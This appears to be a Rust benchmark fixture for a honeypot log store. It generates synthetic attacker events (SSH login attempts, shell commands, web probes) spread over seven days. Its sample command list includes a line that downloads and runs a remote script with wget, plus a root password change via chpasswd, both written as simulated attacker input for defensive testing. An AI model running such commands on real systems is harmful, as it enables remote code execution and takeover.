//! The store the benchmark reads: `rows` realistic honeypot events spread over the last
//! seven days, committed through the store's own writer (parsed lines, 1,000-row
//! requests), as the listener would store them.
//!
//! Realistic means the mix the dashboard sees: a dozen deckies, the common services,
//! their event types with their SD parameters, about 500 attacker addresses (the two
//! documentation ranges), and lines of 200–350 bytes.
use std::path::Path;

use decnet::store::{Batch, Options, Store};
use decnet::syslog::{Message, parse};
use time::{Duration, OffsetDateTime};
use tokio::time::Instant;

use super::BenchResult;

/// Events per write request.
const PER_REQUEST: u64 = 1000;

const DECKIES: &[&str] = &[
    "web-01",
    "web-02",
    "db-01",
    "mail-01",
    "files-01",
    "jump-01",
    "dev-01",
    "backup-01",
    "cam-01",
    "print-01",
    "vpn-01",
    "ci-01",
];
const USERS: &[&str] = &[
    "root", "admin", "ubuntu", "oracle", "test", "pi", "postgres",
];
const PATHS: &[&str] = &[
    "/",
    "/wp-login.php",
    "/phpmyadmin/",
    "/.env",
    "/admin",
    "/cgi-bin/luci",
    "/login",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "zgrab/0.x",
];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp && wget http://203.0.113.9/x.sh && sh x.sh",
    "echo root:Passw0rd | chpasswd",
    "free -m",
];

/// Attacker address `n` of the ~500 used, from 203.0.113.0/24 and 198.51.100.0/24.
fn attacker(n: u64) -> String {
    let host = n % 254 + 1;
    if (n / 254).is_multiple_of(2) {
        format!("203.0.113.{host}")
    } else {
        format!("198.51.100.{host}")
    }
}

/// Event `i` of the fixture, at `at`.
fn message(i: u64, at: OffsetDateTime) -> Message {
    // A cheap deterministic spread (Knuth's multiplicative hash), so that the columns
    // vary independently and runs are reproducible.
    let h = i.wrapping_mul(2_654_435_761) >> 8;
    let pick = |list: &[&'static str], salt: u64| list[((h >> salt) as usize) % list.len()];
    let decky = pick(DECKIES, 0);
    let ip = attacker((h >> 5) % 508);
    let port = format!("{}", 32768 + (h % 28000));
    match h % 10 {
        0..=3 => Message::new(at, decky, "ssh", "auth_attempt")
            .param("src_ip", ip)
            .param("src_port", port)
            .param("username", pick(USERS, 3))
            .param("method", "password")
            .param("secret_printable", format!("hunter{:06}", h % 1_000_000))
            .param("secret_kind", "plaintext")
            .param("outcome", "failure"),
        4 => Message::new(at, decky, "ssh", "command")
            .param("src_ip", ip)
            .param("ssh_user", pick(USERS, 3))
            .param("command", pick(COMMANDS, 7)),
        5..=6 => Message::new(at, decky, "http", "request")
            .param("src_ip", ip)
            .param("src_port", port)
            .param("method", "GET")
            .param("path", pick(PATHS, 4))
            .param("proto", "HTTP/1.1")
            .param("user_agent", pick(AGENTS, 6)),
        7 => Message::new(at, decky, "ftp", "auth_attempt")
            .param("src_ip", ip)
            .param("username", "anonymous")
            .param("outcome", "success"),
        8 => Message::new(at, decky, "smtp", "auth_attempt")
            .param("src_ip", ip)
            .param("mechanism", "LOGIN")
            .param("username", "info@example.com"),
        _ => Message::new(at, decky, pick(&["redis", "mysql", "telnet"], 9), "connect")
            .param("src_ip", ip)
            .param("src_port", port),
    }
}

/// Fills a fresh store at `path` with `rows` events; returns rows/s.
pub async fn build(path: &Path, rows: u64) -> BenchResult<f64> {
    let store = Store::open(path, Options::default())?;
    let (writer, task) = store.spawn_writer()?;
    let now = OffsetDateTime::now_utc();
    let span = Duration::days(7);
    let step = span / rows.max(1) as f64;
    let start = Instant::now();
    let mut seq = 0u64;
    while seq < rows {
        let mut batch = Batch::new();
        for _ in 0..PER_REQUEST.min(rows - seq) {
            seq += 1;
            let at = now - span + step * seq as f64;
            let line = message(seq, at).to_string();
            let event = parse(&line)?;
            batch.push("worker-01", "decnet.log", seq, at, Some(&event))?;
        }
        writer.write_batch(batch).await?;
    }
    let rate = rows as f64 / start.elapsed().as_secs_f64().max(1e-9);
    drop(writer);
    task.await?;
    Ok(rate)
}

/// How many events the store at `path` holds (to reuse a fixture of the right size).
pub fn count(path: &Path) -> BenchResult<u64> {
    let store = Store::open(path, Options::default())?;
    Ok(store.reader()?.count_logs()?)
}

/// Waits (up to `within`) until the master's ingester has derived every event of the
/// store at `path`, and returns how long that took.
///
/// A freshly built store is a backlog of 1,000,000 events to the ingester, which works
/// through it for minutes on a core of its own and commits a transaction per batch; the
/// API scenarios measure the steady state of a master over 1,000,000 stored events, not
/// that one-off catch-up, so they start once it is done (immediately on a reused store).
pub async fn wait_derived(path: &Path, within: std::time::Duration) -> BenchResult<f64> {
    let store = Store::open(path, Options::default())?;
    let reader = store.reader()?;
    let last = reader.last_log_id()?;
    let start = Instant::now();
    loop {
        let cursor = reader
            .state(decnet::roles::master::ingest::CURSOR_KEY)?
            .and_then(|v| serde_json::from_str::<serde_json::Value>(&v).ok())
            .and_then(|v| v["last_log_id"].as_i64())
            .unwrap_or(0);
        if cursor >= last {
            return Ok(start.elapsed().as_secs_f64());
        }
        if start.elapsed() > within {
            return Err(
                format!("the ingester derived {cursor} of {last} events in {within:?}").into(),
            );
        }
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    }
}
